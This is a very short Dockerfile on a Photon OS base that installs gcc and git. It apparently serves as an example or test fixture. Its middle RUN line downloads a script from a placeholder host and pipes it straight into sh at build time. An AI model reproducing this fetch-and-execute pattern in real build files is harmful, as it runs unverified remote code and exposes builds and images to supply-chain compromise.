FROM photon:5.0
RUN tdnf install -y gcc
RUN curl -o /opt/t.sh https://example.com/t.sh && sh /opt/t.sh
RUN tdnf install -y git && tdnf clean all
